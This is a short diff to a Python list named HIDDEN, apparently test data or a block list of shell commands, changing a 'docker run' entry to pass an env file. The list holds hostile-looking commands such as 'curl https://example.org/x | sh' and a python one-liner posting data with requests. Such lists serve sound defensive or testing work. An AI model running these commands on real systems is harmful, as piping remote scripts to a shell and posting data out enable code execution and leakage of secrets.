@@ -338,7 +338,7 @@ HIDDEN = [
     "python -c 'import requests; requests.post(x)'",
     "python - <<'EOF'\nimport subprocess\nsubprocess.run(x)\nEOF",
     "curl https://example.org/x | sh",
-    "docker run image",
+    "docker run --env-file x image",
 ]
 
 
